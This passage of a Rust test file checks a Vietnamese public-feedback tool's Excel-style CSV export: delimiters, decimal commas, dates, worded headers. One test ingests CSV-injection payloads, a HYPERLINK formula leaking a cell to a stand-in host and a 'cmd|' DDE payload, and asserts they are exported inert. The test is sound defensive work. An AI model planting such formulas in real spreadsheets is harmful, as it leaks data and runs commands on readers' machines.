//! CSV for Excel with Vietnamese regional settings (`--csv excel`, the setting `csv.style`):
//! every CSV the tool writes, read back with `;`, holds the cells of the standard file, a
//! decimal comma where a number had a point; the standard file stays as it was; a citizen's
//! formula reaches the officer's spreadsheet inert and readable; the flag is refused where
//! no CSV is written.

use serde_json::json;

use crate::common::*;

const BOM: &str = "\u{feff}";
const AS_OF: &str = "2026-11-01T08:00:00+07:00";

/// The demo's world, the clock after the three months it played.
fn world() -> TestEnv {
    let mut env = TestEnv::demo();
    env.set_now(AS_OF);
    env
}

/// The records of a CSV text (its byte-order mark left out), with `delimiter` between cells.
fn records(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(text.strip_prefix(BOM).unwrap_or(text).as_bytes())
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

/// What `assert_excel_twin` found: how many numbers got a decimal comma, and the cells that
/// look like decimal numbers but are text (a setting's value as typed), kept as written.
struct Twin {
    decimals: usize,
    kept: Vec<String>,
    /// Stored moments written as Excel under Vietnamese settings reads a date and time.
    moments: usize,
    /// Texts of digits written so that Excel keeps them as text (`excel_shows`).
    texts: usize,
    /// Shares written as the percentage Excel reads as the same number (`62,5%` for
    /// `0.625`: `excel_share`), with the header of their column.
    shares: Vec<(String, String)>,
    /// The header, each column's name in the standard file beside the Excel file's.
    heads: Vec<(String, String)>,
    /// Codes of the standard file (`assigned`, `dispatch`, `false`, `by_field`) written as
    /// the words a person reads, each (code, words) once.
    words: std::collections::BTreeSet<(String, String)>,
}

impl Twin {
    /// Checks that the header is in words a person reads: none is a program's key.
    fn assert_worded(&self) -> &Self {
        assert!(!self.heads.is_empty(), "no header");
        for (key, head) in &self.heads {
            assert!(
                !head.is_empty() && !code_like(head),
                "{key} headed {head:?}"
            );
        }
        self
    }

    /// The Excel file's header of the standard file's column `key`.
    fn head(&self, key: &str) -> &str {
        let found = self.heads.iter().find(|(k, _)| k == key);
        &found
            .unwrap_or_else(|| panic!("no column {key}: {:?}", self.heads))
            .1
    }

    /// The words the Excel file wrote for `code`, wherever it stands.
    fn word(&self, code: &str) -> Vec<&str> {
        self.words
            .iter()
            .filter(|(c, _)| c == code)
            .map(|(_, w)| w.as_str())
            .collect()
    }
}

/// A code of the standard file, a word of a program: lower case ASCII, digits, `_` and `.`
/// (`assigned`, `due_soon`, `report.prolonged_returns`, `true`), or codes joined by commas
/// (`missing_photo,invalid_phone`).
fn code_like(cell: &str) -> bool {
    cell.starts_with(|c: char| c.is_ascii_lowercase())
        && cell.bytes().all(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'.' || b == b','
        })
}

/// The number Excel under Vietnamese settings reads from a percentage (`62,5%`), written
/// back as the standard file writes a share: three decimals of the fraction (`0.625`).
fn excel_share(cell: &str) -> Option<String> {
    let (whole, tenth) = cell.strip_suffix('%')?.split_once(',')?;
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    if !digits(whole) || tenth.len() != 1 || !digits(tenth) {
        return None;
    }
    let thousandths: u64 = whole.parse::<u64>().ok()? * 10 + tenth.parse::<u64>().ok()?;
    Some(format!("{}.{:03}", thousandths / 1000, thousandths % 1000))
}

/// What Excel shows for a cell it opened from a CSV file: `="…"` is a formula whose value
/// is the text inside; a cell of digits alone (a `+` before them allowed) is a number, so
/// its leading zeros and its `+` go, and past 11 significant digits the General format
/// shows it in scientific notation (`1,23457E+11`); digits around an `e` are a number in
/// scientific notation too; anything else is left as read here.
fn excel_shows(cell: &str) -> String {
    if let Some(inner) = cell.strip_prefix("=\"").and_then(|c| c.strip_suffix('"')) {
        return inner.replace("\"\"", "\"");
    }
    let all_digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    let digits = cell.strip_prefix('+').unwrap_or(cell);
    if all_digits(digits) {
        let significant = digits.trim_start_matches('0');
        return match significant.len() {
            0 => "0".to_owned(),
            1..=11 => significant.to_owned(),
            _ => format!("{:.5E}", significant.parse::<f64>().unwrap()).replace('.', ","),
        };
    }
    match cell.split_once(['e', 'E']) {
        Some((mantissa, exponent))
            if all_digits(mantissa)
                && all_digits(exponent.strip_prefix(['+', '-']).unwrap_or(exponent)) =>
        {
            format!("{:.5E}", cell.parse::<f64>().unwrap()).replace('.', ",")
        }
        _ => cell.to_owned(),
    }
}

/// A stored moment (`2026-10-03T14:00:00+07:00`) as the Excel style writes it: Vietnam's
/// time, day first, to the second (`03/10/2026 14:00:00`); None for any other cell.
fn excel_moment(cell: &str) -> Option<String> {
    let at = chrono::DateTime::parse_from_rfc3339(cell).ok()?;
    let vietnam = chrono::FixedOffset::east_opt(7 * 3600)?;
    Some(
        at.with_timezone(&vietnam)
            .format("%d/%m/%Y %H:%M:%S")
            .to_string(),
    )
}

/// Checks that `excel` is `standard` written for Excel: a byte-order mark (when `bom`), CRLF
/// after every record, and read with `;` the same cells as `standard` read with `,`, except
/// that a number with a decimal point may have a decimal comma there, and a stored moment
/// may be written day first (`excel_moment`).
fn assert_excel_twin(standard: &str, excel: &str, bom: bool) -> Twin {
    assert_eq!(excel.starts_with(BOM), bom, "byte-order mark: {excel:.200}");
    assert!(
        !standard.contains('\r'),
        "the standard file ends lines with LF"
    );
    assert!(excel.ends_with("\r\n"), "{excel:.200}");
    assert_eq!(
        excel.matches("\r\n").count(),
        excel.matches('\n').count(),
        "every line of the Excel file ends with CRLF"
    );
    let (mut ours, theirs) = (records(standard, b','), records(excel, b';'));
    // The report of a period that has ended has no line in the file for Excel saying it has
    // not; the file for scripts keeps its empty `still_running` line.
    ours.retain(|r| {
        r.first().is_none_or(|s| s != "still_running") || r[1..].iter().any(|c| !c.is_empty())
    });
    assert_eq!(ours.len(), theirs.len(), "{excel:.300}");
    let mut twin = Twin {
        decimals: 0,
        kept: Vec::new(),
        moments: 0,
        texts: 0,
        shares: Vec::new(),
        heads: Vec::new(),
        words: Default::default(),
    };
    let heads = ours.first().cloned().unwrap_or_default();
    // A file with a byte-order mark starts with its header, which names the same columns,
    // in the same order, each a name of its own (`Twin::assert_worded` checks the words);
    // lines a cron job appends (`--no-headers`) have neither.
    let headed = usize::from(bom);
    if bom {
        let (standard_heads, excel_heads) = (&ours[0], &theirs[0]);
        assert_eq!(standard_heads.len(), excel_heads.len(), "{excel_heads:?}");
        let distinct: std::collections::BTreeSet<&String> = excel_heads.iter().collect();
        assert_eq!(distinct.len(), excel_heads.len(), "{excel_heads:?}");
        twin.heads = standard_heads
            .iter()
            .cloned()
            .zip(excel_heads.iter().cloned())
            .collect();
    }
    // Each code one set of words in a column, wherever it stands; in the report's, within a
    // section (the first cell: its `label` is a period's name, a rejection's reason).
    let mut worded: std::collections::BTreeMap<(usize, String, String), String> =
        Default::default();
    for (a, b) in ours.iter().zip(&theirs).skip(headed) {
        assert_eq!(a.len(), b.len(), "{a:?}\n{b:?}");
        for (column, (cell, written)) in a.iter().zip(b).enumerate() {
            if code_like(cell) && written != cell {
                assert!(!code_like(written), "{cell} written {written:?}: {b:?}");
                let section = a
                    .first()
                    .filter(|s| code_like(s))
                    .cloned()
                    .unwrap_or_default();
                let first = worded
                    .entry((column, cell.clone(), section))
                    .or_insert(written.clone());
                assert_eq!(first, written, "{cell} worded two ways in column {column}");
                twin.words.insert((cell.clone(), written.clone()));
                continue;
            }
            let decimal = cell.contains('.') && cell.parse::<f64>().is_ok();
            if decimal && *written == cell.replace('.', ",") {
                twin.decimals += 1;
            } else if excel_moment(cell).as_ref() == Some(written) {
                twin.moments += 1;
            } else if decimal && excel_share(written).as_ref() == Some(cell) {
                let head = heads.get(column).cloned().unwrap_or_default();
                twin.shares.push((head, written.clone()));
            } else {
                // What the officer sees is what the standard file holds: a phone's leading
                // zero, a long number's last digits.
                assert_eq!(excel_shows(written), *cell, "{a:?}\n{b:?}");
                if written != cell {
                    twin.texts += 1;
                }
                if decimal {
                    twin.kept.push(cell.clone());
                }
            }
        }
    }
    twin
}

/// The score for Excel is read by a person: its rules are in words where the standard file
/// has letters, and a last column says why a row has no rank. Both are checked here, then
/// set back to the standard file's cells, so that `assert_excel_twin` checks the rest.
fn score_for_excel_as_twin(standard: &str, excel: &str) -> String {
    let (ours, theirs) = (records(standard, b','), records(excel, b';'));
    let heads = &theirs[0];
    assert_eq!(heads.len(), ours[0].len() + 1, "{heads:?}");
    assert_eq!(heads.last().unwrap(), "Ghi chú", "{heads:?}");
    let rules = ours[0]
        .iter()
        .position(|h| h == "Quy tắc chấm điểm")
        .unwrap();
    let rank = ours[0].iter().position(|h| h == "Xếp hạng").unwrap();
    let mut unranked = 0;
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .terminator(csv::Terminator::CRLF)
        .from_writer(BOM.as_bytes().to_vec());
    for (i, (a, b)) in ours.iter().zip(&theirs).enumerate() {
        let mut b = b.clone();
        let note = b.pop().unwrap();
        if i > 0 {
            assert!(a[rules].starts_with("a=0,6 b=0,1 d=0,1 c=0,3; "), "{a:?}");
            assert_eq!(
                b[rules],
                format!(
                    "Trọng số: trả lời đúng hạn 0,6; không chuyển trả trễ 0,1; không bị yêu cầu xử lý lại 0,1; điểm đánh giá trung bình 0,3. Xếp hạng khi có từ 10 vụ việc đã trả lời hoặc quá hạn. {}",
                    crate::papers::SCORE_BASES
                ),
            );
            b[rules] = a[rules].clone();
            // A note beside every empty rank, and only there.
            assert_eq!(note.is_empty(), !a[rank].is_empty(), "{b:?} {note}");
            unranked += usize::from(!note.is_empty());
        }
        writer.write_record(&b).unwrap();
    }
    assert!(unranked > 0);
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}

fn file(env: &TestEnv, name: &str) -> String {
    String::from_utf8(std::fs::read(env.dir().join(name)).unwrap()).unwrap()
}

fn out(env: &TestEnv, name: &str) -> String {
    env.dir().join(name).to_str().unwrap().to_owned()
}

/// The full export (`export csv` with a reason, as an admin) in CSV `style`, written to
/// `name` in the test's directory; its text.
fn full_export(env: &TestEnv, style: &str, name: &str) -> String {
    let path = out(env, name);
    env.run_as(
        ADMIN,
        &[
            "--csv",
            style,
            "export",
            "csv",
            "--reason",
            "đối chiếu",
            "--out",
            &path,
        ],
    )
    .success();
    file(env, name)
}

#[test]
fn the_score_for_excel_reads_back_as_the_standard_file_with_decimal_commas() {
    let env = world();
    let score = |name: &str, extra: &[&str]| {
        let mut args = vec!["score", "--year", "2026", "--out"];
        let path = out(&env, name);
        args.push(&path);
        args.extend_from_slice(extra);
        env.run_as(AUDITOR, &args).success();
        file(&env, name)
    };
    let standard = score("diem.csv", &[]);
    let excel = score("diem-excel.csv", &["--csv", "excel"]);
    let twin = assert_excel_twin(&standard, &score_for_excel_as_twin(&standard, &excel), true);
    // Three decimal columns (average rating, satisfied share, score) of most agencies, and
    // no number left with its point.
    assert!(twin.decimals > 30, "{} decimal cells", twin.decimals);
    assert!(twin.kept.is_empty(), "{:?}", twin.kept);
    let first = &records(&excel, b';')[1];
    assert_eq!(first[0], "SYT", "{first:?}");
    assert!(first[13].contains(',') && first[13].parse::<f64>().is_err());
    // The standard file is the one scripts have read all along: one byte-order mark, commas.
    assert!(standard.starts_with(&format!("{BOM}Mã cơ quan,Cơ quan,")));
    assert!(!standard[3..].contains(BOM));
    assert_eq!(score("diem-standard.csv", &["--csv", "standard"]), standard);
    // The English headers and the period's words are text: they are the same cells.
    let english = env
        .run_as(
            AUDITOR,
            &[
                "--lang", "en", "--csv", "excel", "score", "--year", "2026", "--format", "csv",
            ],
        )
        .success()
        .stdout
        .clone();
    assert!(english.starts_with(&format!("{BOM}Agency code;Agency;Cases assigned;")));
}

#[test]
fn the_report_for_excel_reads_back_as_the_standard_file_with_decimal_commas() {
    let env = world();
    let report = |extra: &[&str]| quarter_csv(&env, extra);
    let standard = report(&[]);
    let excel = report(&["--csv", "excel"]);
    let twin = assert_excel_twin(&standard, &excel, true);
    assert!(twin.decimals > 10, "{}", twin.decimals);
    assert!(twin.kept.is_empty(), "{:?}", twin.kept);
    assert!(twin.moments > 10, "{}", twin.moments);
    // Text that holds commas and points stays as written, in one cell.
    let title = records(&excel, b';')
        .into_iter()
        .find(|r| r[0] == "Tiêu đề")
        .unwrap();
    assert_eq!(
        title[3],
        "Báo cáo kết quả tiếp nhận, xử lý phản ánh hiện trường"
    );
    // A file named .csv is written in the style asked for.
    let path = out(&env, "quy-3.csv");
    env.run_as(
        LEADER,
        &[
            "--csv",
            "excel",
            "report",
            "quarterly",
            "--period",
            "2026-Q3",
            "--out",
            &path,
        ],
    )
    .success();
    assert_eq!(file(&env, "quy-3.csv"), excel);
}

/// A share reaches Excel as the percentage the table and the workbook print (`62,5%`),
/// which Excel under Vietnamese settings reads as the number 0.625 shown as a percent: the
/// satisfied share of the score, the on-time rates and the satisfied share of the report.
/// Written `0,625`, the officer read "Tỷ lệ hài lòng 0,625" as well under one percent. The
/// standard file keeps the fraction scripts have always read.
#[test]
fn a_share_reaches_excel_as_the_percentage_the_table_prints() {
    let env = world();
    let score = |extra: &[&str]| {
        let mut args = vec!["score", "--year", "2026", "--format", "csv"];
        args.extend_from_slice(extra);
        env.run_as(AUDITOR, &args).success().stdout.clone()
    };
    let (standard, excel) = (score(&[]), score(&["--csv", "excel"]));
    let twin = assert_excel_twin(&standard, &score_for_excel_as_twin(&standard, &excel), true);
    let ours = records(&standard, b',');
    let column = ours[0].iter().position(|h| h == "Tỷ lệ hài lòng").unwrap();
    let filled = ours[1..].iter().filter(|r| !r[column].is_empty()).count();
    assert!(filled > 5, "{filled}");
    assert_eq!(twin.shares.len(), filled, "{:?}", twin.shares);
    assert!(twin.shares.iter().all(|(head, _)| head == "Tỷ lệ hài lòng"));
    let first = &records(&excel, b';')[1];
    assert_eq!(
        excel_share(&first[column]).as_ref(),
        Some(&ours[1][column]),
        "{first:?}"
    );
    assert_eq!(
        ours[1][column].len(),
        5,
        "three decimals in the standard file"
    );

    let (standard, excel) = (
        quarter_csv(&env, &[]),
        quarter_csv(&env, &["--csv", "excel"]),
    );
    let twin = assert_excel_twin(&standard, &excel, true);
    let shares = records(&standard, b',')
        .iter()
        .filter(|r| ["on_time_rate", "satisfied_share"].contains(&r[2].as_str()))
        .filter(|r| !r[3].is_empty())
        .count();
    assert!(shares > 5, "{shares}");
    assert_eq!(twin.shares.len(), shares, "{:?}", twin.shares);
}

/// The due and done cells of the late cases, and the "as of" moment, reach Excel under
/// Vietnamese settings as dates and times it sorts and filters (`03/10/2026 14:00:00`), where
/// `2026-10-03T14:00:00+07:00` stayed text; the standard file keeps
/// RFC 3339 for scripts.
#[test]
fn the_report_for_excel_writes_due_and_done_as_dates_and_times_excel_reads() {
    let env = world();
    let report = |extra: &[&str]| quarter_csv(&env, extra);
    let (standard, excel) = (report(&[]), report(&["--csv", "excel"]));
    let late = |text: &str, delimiter, section: &str| -> Vec<Vec<String>> {
        records(text, delimiter)
            .into_iter()
            .filter(|r| r[0] == section)
            .collect()
    };
    let (ours, theirs) = (
        late(&standard, b',', "late"),
        late(&excel, b';', "6.1. Trễ hạn"),
    );
    assert!(!ours.is_empty());
    let head = &records(&standard, b',')[0];
    let column = |name: &str| head.iter().position(|h| h == name).unwrap();
    let (due, done) = (column("due_at"), column("done_at"));
    assert_eq!(
        [&theirs[0][due], &theirs[0][done]],
        ["04/08/2026 15:02:24", "04/08/2026 15:31:24"]
    );
    for (a, b) in ours.iter().zip(&theirs) {
        for i in [due, done] {
            if a[i].is_empty() {
                continue;
            }
            assert!(
                a[i].ends_with("+07:00"),
                "the standard file keeps RFC 3339: {a:?}"
            );
            assert_eq!(Some(b[i].clone()), excel_moment(&a[i]));
        }
    }
    let as_of = records(&excel, b';')
        .into_iter()
        .find(|r| r[0] == "Số liệu tính đến")
        .unwrap();
    assert_eq!(as_of[3], "01/11/2026 08:00:00");
}

/// Every other command that writes CSV writes it in the style of the run, through the one
/// writer: listings, one record, the audit log, the sweep, the settings, the calendar, the
/// exports and the ingest's list of errors.
#[test]
fn every_csv_the_tool_writes_takes_the_excel_style() {
    let env = world();
    let both = |user: &str, args: &[&str]| -> (String, String) {
        let mut standard = vec!["--format", "csv"];
        standard.extend_from_slice(args);
        let mut excel = vec!["--format", "csv", "--csv", "excel"];
        excel.extend_from_slice(args);
        (
            env.run_as(user, &standard).success().stdout.clone(),
            env.run_as(user, &excel).success().stdout.clone(),
        )
    };
    let (mut decimals, mut texts) = (0, 0);
    for (user, args) in [
        (RECEPTION, vec!["list"]),
        (RECEPTION, vec!["show", "3"]),
        (ADMIN, vec!["audit", "log", "3"]),
        (ADMIN, vec!["settings", "show"]),
        (ADMIN, vec!["agency", "list"]),
        (ADMIN, vec!["field", "list"]),
        (ADMIN, vec!["sweep", "--dry-run"]),
        (ADMIN, vec!["calendar", "show", "2026"]),
        (
            ADMIN,
            vec![
                "calendar",
                "deadline",
                "--stage",
                "dispatch",
                "--start",
                "2026-11-06 16:30",
            ],
        ),
        (AUDITOR, vec!["export", "csv", "--public"]),
        (ADMIN, vec!["export", "csv", "--reason", "đối chiếu"]),
    ] {
        let (standard, excel) = both(user, &args);
        assert!(records(&standard, b',').len() > 1, "{args:?}: {standard}");
        let twin = assert_excel_twin(&standard, &excel, true);
        // Every file but one record's (`show`) is headed in words; its yes or no is a word.
        if args[0] != "show" {
            twin.assert_worded();
        } else {
            assert_eq!(twin.word("false"), ["Không"], "{excel}");
            assert!(standard.contains(",false,"), "{standard}");
        }
        decimals += twin.decimals;
        texts += twin.texts;
        // An export's moments (submitted, occurred, updated, expected) are dates and times
        // an officer can sort and filter in Excel, as a listing's are.
        if args[0] == "export" {
            assert!(twin.moments > 300, "{args:?}: {}", twin.moments);
        }
        // A setting's value is text as the administrator typed it (`0.6`), not a number.
        if args != ["settings", "show"] {
            assert!(twin.kept.is_empty(), "{args:?}: {:?}", twin.kept);
        }
    }
    // The coordinates of the exports are numbers.
    assert!(decimals > 100, "{decimals}");
    // The phones of the full export (0330253150) are texts Excel would make numbers of.
    assert!(texts > 300, "{texts}");
    // Lines a cron job adds to a file that has its header have no byte-order mark.
    let (standard, excel) = both(ADMIN, &["sweep", "--dry-run", "--no-headers"]);
    assert_excel_twin(&standard, &excel, false);

    // `export csv` is CSV without --format; the list of errors of `ingest` is a file.
    let bad = env.dir().join("bad.csv");
    std::fs::write(
        &bad,
        "external_id,submitted_at,content\nX-1,hôm qua,Đèn hỏng\n",
    )
    .unwrap();
    let errors = |name: &str, extra: &[&str]| {
        let path = out(&env, name);
        let mut args = extra.to_vec();
        args.extend(["ingest", bad.to_str().unwrap(), "--errors", &path]);
        env.run_as(RECEPTION, &args).code(1);
        file(&env, name)
    };
    let standard = errors("loi.csv", &[]);
    let excel = errors("loi-excel.csv", &["--csv", "excel"]);
    let twin = assert_excel_twin(&standard, &excel, true);
    twin.assert_worded();
    assert_eq!(
        [twin.head("file"), twin.head("reason"), twin.head("message")],
        ["Tệp", "Mã lý do", "Lý do"]
    );
    assert!(
        standard.starts_with("file,line,reason,message,record\n"),
        "{standard}"
    );
    assert!(records(&excel, b';').len() > 1, "{excel}");
    let public = env
        .run_as(AUDITOR, &["--csv", "excel", "export", "csv", "--public"])
        .success()
        .stdout
        .clone();
    assert_eq!(public, both(AUDITOR, &["export", "csv", "--public"]).1);
}

#[test]
fn a_citizens_formula_reaches_excel_inert_and_readable() {
    let env = TestEnv::seeded();
    // In a Vietnamese Excel a formula's arguments are separated by `;`, the file's own
    // separator: the cell must hold it whole.
    let formula = "=HYPERLINK(\"http://lừa.example/?d=\"&A1;\"Bấm để xem\")";
    let records_in = [
        ("EVIL-1", formula),
        ("EVIL-2", "+84 91 234 5678"),
        ("EVIL-3", "-1+cmd|' /C calc'!A0"),
        ("EVIL-4", "@SUM(1;2)"),
        ("EVIL-5", "\t=1+1 dòng kẻ"),
    ];
    let file_in = env.dir().join("evil.jsonl");
    let lines: Vec<String> = records_in
        .iter()
        .map(|(id, content)| {
            json!({
                "external_id": id,
                "submitted_at": "2026-10-04T10:00:00+07:00",
                // Given as null: a file none of whose records carries them is refused.
                "occurred_at": null,
                "media": null,
                "content": content,
                "address": "=1+1 ấp 3",
                "reporter_name": "Nguyễn Văn A",
                "reporter_phone": "0912000111"
            })
            .to_string()
        })
        .collect();
    std::fs::write(&file_in, lines.join("\n") + "\n").unwrap();
    env.run_as(RECEPTION, &["ingest", file_in.to_str().unwrap()])
        .success();
    let text = full_export(&env, "excel", "toan-bo.csv");
    let rows = records(&text, b';');
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (id, content, address) = (column("Mã ứng dụng"), column("Nội dung"), column("Địa chỉ"));
    for (external, written) in records_in {
        let row = rows.iter().find(|r| r[id] == external).unwrap();
        // The citizen's words whole after an apostrophe, which Excel takes for text (ingest
        // keeps no leading blank).
        let stored = env.show(&format!("ext:{external}"))["content"]
            .as_str()
            .unwrap()
            .to_owned();
        assert_eq!(stored, written.trim_start());
        assert_eq!(row[content], format!("'{stored}"));
        assert_eq!(row[address], "'=1+1 ấp 3");
    }
    // No cell of the file starts what a spreadsheet would run, but for the text formula the
    // Excel style gives digits Excel would change (`="0912000111"`): a literal, nothing else.
    let digits_as_text = |cell: &str| {
        cell.strip_prefix("=\"")
            .and_then(|c| c.strip_suffix('"'))
            .map(|c| c.strip_prefix('+').unwrap_or(c))
            .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()))
    };
    for row in &rows {
        for cell in row {
            let risky = cell
                .trim_start()
                .starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !risky
                    || cell.trim().replace(',', ".").parse::<f64>().is_ok()
                    || digits_as_text(cell),
                "{cell:?}"
            );
        }
    }
}

/// An app's id `03-04` and an address `12/5` (house 12, alley 5) reached the officer's
/// Excel as plain text, which Excel under Vietnamese settings reads as days of this year and
/// shows as 03/04/2026 and 12/05/2026: sorted and saved back as dates. The Excel style now
/// gives them as text (`="12/5"`), as it gives a phone's leading zero; the standard file
/// keeps them as they are.
#[test]
fn an_id_or_address_excel_would_read_as_a_day_reaches_it_as_written() {
    let env = TestEnv::seeded();
    let file_in = env.dir().join("ngay.jsonl");
    let record = json!({
        "external_id": "03-04",
        "submitted_at": "2026-10-04T10:00:00+07:00",
        // Given as null: a file none of whose records carries them is refused.
        "occurred_at": null,
        "media": null,
        "content": "Đường bị ngập nặng trước cổng trường tiểu học, xe máy chết máy hàng loạt.",
        "address": "12/5",
        "commune": "Phường An Xuyên",
        "reporter_name": "Nguyễn Văn A",
        "reporter_phone": "0912000111"
    });
    std::fs::write(&file_in, format!("{record}\n")).unwrap();
    env.run_as(RECEPTION, &["ingest", file_in.to_str().unwrap()])
        .success();
    let (standard, excel) = (
        full_export(&env, "standard", "chuan.csv"),
        full_export(&env, "excel", "excel.csv"),
    );
    let rows = records(&excel, b';');
    let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let row = rows
        .iter()
        .find(|r| r[column("Mã ứng dụng")].contains("03-04"))
        .unwrap();
    assert_eq!(row[column("Mã ứng dụng")], "=\"03-04\"");
    assert_eq!(row[column("Địa chỉ")], "=\"12/5\"");
    assert_excel_twin(&standard, &excel, true);
    let listed = env
        .run_as(RECEPTION, &["--format", "csv", "--csv", "excel", "list"])
        .success()
        .stdout
        .clone();
    assert!(listed.contains(";\"=\"\"03-04\"\"\";"), "{listed}");
}

#[test]
fn the_setting_makes_score_and_report_for_excel_and_leaves_scripts_theirs() {
    let env = world();
    let score = |extra: &[&str]| {
        let mut args = extra.to_vec();
        args.extend(["score", "--year", "2026", "--format", "csv"]);
        env.run_as(AUDITOR, &args).success().stdout.clone()
    };
    let report = |extra: &[&str]| {
        let mut args = extra.to_vec();
        args.extend([
            "report", "monthly", "--period", "2026-10", "--format", "csv",
        ]);
        env.run_as(LEADER, &args).success().stdout.clone()
    };
    let list = || {
        env.run_as(RECEPTION, &["--format", "csv", "list"])
            .success()
            .stdout
            .clone()
    };
    let (score_before, report_before, list_before) = (score(&[]), report(&[]), list());
    let (score_excel, report_excel) = (score(&["--csv", "excel"]), report(&["--csv", "excel"]));
    assert_ne!(score_excel, score_before);

    env.run_as(ADMIN, &["settings", "set", "csv.style", "excel"])
        .success();
    assert_eq!(score(&[]), score_excel);
    assert_eq!(report(&[]), report_excel);
    // A script pins the standard file; the listings are not documents, and stay standard.
    assert_eq!(score(&["--csv", "standard"]), score_before);
    assert_eq!(report(&["--csv", "standard"]), report_before);
    assert_eq!(list(), list_before);
    // A workbook is a workbook whatever the setting.
    let xlsx = out(&env, "diem.xlsx");
    env.run_as(AUDITOR, &["score", "--year", "2026", "--out", &xlsx])
        .success();
    assert!(std::fs::read(&xlsx).unwrap().starts_with(b"PK"));

    env.run_as(ADMIN, &["settings", "set", "csv.style", "standard"])
        .success();
    assert_eq!(score(&[]), score_before);
    env.run_as(ADMIN, &["settings", "set", "csv.style", "excell"])
        .code(1)
        .stderr_has("csv.style")
        .stderr_has("standard, excel");
}

#[test]
fn csv_style_is_refused_where_no_csv_is_written() {
    let env = world();
    let refused = |user: &str, args: &[&str], said: &str| {
        env.run_as(user, args)
            .code(1)
            .one_line_error()
            .stderr_has(said)
            .stderr_has("--format csv");
    };
    refused(RECEPTION, &["--csv", "excel", "list"], "dạng table");
    refused(
        RECEPTION,
        &["--csv", "excel", "--format", "json", "list"],
        "dạng json",
    );
    refused(
        AUDITOR,
        &["--csv", "standard", "score", "--year", "2026"],
        "dạng table",
    );
    // --explain prints text whatever the format: told to drop --csv, not to add the
    // --format csv it would refuse in turn.
    env.run_as(AUDITOR, &["--csv", "excel", "score", "--explain"])
        .code(1)
        .one_line_error()
        .stderr_has("score --explain chỉ in quy tắc chấm điểm dạng chữ")
        .stderr_has("hãy bỏ --csv excel.")
        .never_shows("--format csv");
    refused(
        LEADER,
        &[
            "--lang",
            "en",
            "--csv",
            "excel",
            "report",
            "monthly",
            "--period",
            "2026-10",
            "--out",
            &out(&env, "t.html"),
        ],
        "prints html",
    );
    assert!(!env.dir().join("t.html").exists());
    // A workbook needs no CSV style: said, and no file left behind.
    let xlsx = out(&env, "diem.xlsx");
    env.run_as(
        AUDITOR,
        &["--csv", "excel", "score", "--year", "2026", "--out", &xlsx],
    )
    .code(1)
    .one_line_error()
    .stderr_has(".xlsx")
    .stderr_has("bỏ --csv");
    assert!(!env.dir().join("diem.xlsx").exists());
    // An unknown style is a usage error that names the two.
    env.run_as(RECEPTION, &["--csv", "excell", "--format", "csv", "list"])
        .code(2)
        .stderr_has("standard")
        .stderr_has("excel");
}

/// The guide's overdue list for Excel (`--format csv --csv excel list --overdue`) writes its
/// moments as the report's CSV does, day first in Vietnam's time, so that the officer sorts
/// and filters them as dates; the standard list keeps RFC 3339.
#[test]
fn the_overdue_list_for_excel_writes_its_moments_as_dates_and_times() {
    let env = world();
    let list = |extra: &[&str]| {
        let mut args = vec!["--format", "csv"];
        args.extend_from_slice(extra);
        args.extend(["list", "--overdue"]);
        env.run_as(RECEPTION, &args).success().stdout.clone()
    };
    let (standard, excel) = (list(&[]), list(&["--csv", "excel"]));
    let twin = assert_excel_twin(&standard, &excel, true);
    let (ours, theirs) = (records(&standard, b','), records(&excel, b';'));
    let due = ours[0].iter().position(|h| h == "overdue_due_at").unwrap();
    assert_eq!(ours[1][due], "2026-11-01T05:13:50+07:00");
    assert_eq!(theirs[1][due], "01/11/2026 05:13:50");
    assert!(twin.moments >= 2 * (ours.len() - 1), "{}", twin.moments);
}

/// The leader's quarterly report of 2026-Q3 as CSV, with `extra` arguments (`--csv excel`).
fn quarter_csv(env: &TestEnv, extra: &[&str]) -> String {
    let mut args = vec![
        "report",
        "quarterly",
        "--period",
        "2026-Q3",
        "--format",
        "csv",
    ];
    args.extend_from_slice(extra);
    env.run_as(LEADER, &args).success().stdout.clone()
}

/// The report for Excel speaks its reader's language: its header, its sections, its metrics,
/// its stages and its yes or no are the words the workbook and the tables use, in every
/// period (`1. Tổng hợp;;Tổng số phản ánh nhận được;118`, where the file for scripts keeps
/// `totals,,received,118`); codes, names and figures stay as stored. Before, the Excel file
/// carried the program's words (`section;item;metric;value`, `period;;running;false`) that
/// an officer cannot read, and Excel made `false` its own boolean.
#[test]
fn the_report_for_excel_speaks_the_officers_language() {
    let env = world();
    let report = |extra: &[&str], period: &[&str]| {
        let mut args = extra.to_vec();
        args.extend(period);
        args.extend(["--format", "csv"]);
        env.run_as(LEADER, &args).success().stdout.clone()
    };
    let october = ["report", "monthly", "--period", "2026-10"];
    let (standard, excel) = (report(&[], &october), report(&["--csv", "excel"], &october));
    let twin = assert_excel_twin(&standard, &excel, true);
    twin.assert_worded();
    let lines = records(&excel, b';');
    assert_eq!(
        lines[0].join(";"),
        "Phần;Mục;Chỉ tiêu;Giá trị;Mã ứng dụng;Giai đoạn;Lượt;Mã cơ quan;Cơ quan;Hạn;\
         Hoàn thành;Quá hạn (phút);Ngày làm việc;Mã lý do;Lý do;\
         Quá hạn (phút, theo cách tính hạn);Sau khi hết kỳ"
    );
    let has = |line: &str| {
        assert!(
            lines.iter().any(|r| r[..4].join(";") == line),
            "no line {line:?} in\n{excel}"
        )
    };
    has("1. Tổng hợp;;Tổng số phản ánh nhận được;118");
    has("Kỳ báo cáo;;Loại kỳ;Tháng");
    has("Kỳ báo cáo;;Chưa kết thúc;Không");
    has("4.1. Theo lĩnh vực;TL;Lĩnh vực;Thủy lợi và đê điều");
    has("2. Thời hạn theo giai đoạn;Phân phối;Giai đoạn;Phân phối");
    has(
        "Căn cứ tính thời hạn và tiêu chí áp dụng;;Coi là kéo dài khi bị chuyển trả từ số lần này trở lên;2",
    );
    has(
